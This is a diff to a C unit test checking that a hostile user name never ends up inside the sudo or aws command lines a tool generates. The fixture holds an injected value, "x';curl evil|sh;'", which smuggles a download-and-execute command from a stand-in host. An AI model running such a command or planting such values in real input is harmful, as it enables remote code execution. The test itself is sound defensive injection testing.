@@ -154,7 +154,17 @@ START_TEST(hostile_user_name_never_reaches_a_command)
     strcpy(f.users[1], "x';curl evil|sh;'\x1b[2J");
     char *s = build(&f, &cfg);
     ck_assert_ptr_nonnull(strstr(s, "sudo loginctl terminate-user <user>"));
-    ck_assert_ptr_null(strstr(s, "curl evil|sh;'"));  /* only ever shown escaped in the list */
+    /* the name is listed as data, but no command line carries it */
+    int commands = 0;
+    for (const char *l = s; l && *l; l = strchr(l, '\n') ? strchr(l, '\n') + 1 : NULL) {
+        size_t n = strcspn(l, "\n");
+        if (!strncmp(l, "   sudo ", 8) || !strncmp(l, "   aws ", 7)) {
+            commands++;
+            ck_assert_msg(!memmem(l, n, "curl", 4), "command carries attacker text: %.*s",
+                          (int)n, l);
+        }
+    }
+    ck_assert_int_ge(commands, 4);
     ck_assert_ptr_null(strchr(s, 0x1b));
     ck_assert_ptr_nonnull(strstr(s, "SUCCEEDED"));
     free(s);
